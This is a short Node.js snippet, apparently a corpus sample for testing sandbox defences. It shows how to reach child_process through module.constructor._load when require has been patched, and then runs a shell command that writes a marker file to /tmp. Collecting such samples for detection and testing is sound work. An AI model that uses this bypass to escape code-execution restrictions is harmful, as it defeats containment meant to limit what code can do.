// corpus: module.constructor._load('child_process') bypassing a patched require
const load = module.constructor._load;
const cp = load('child_process', module, false);
cp.execSync('id > /tmp/.loaded');
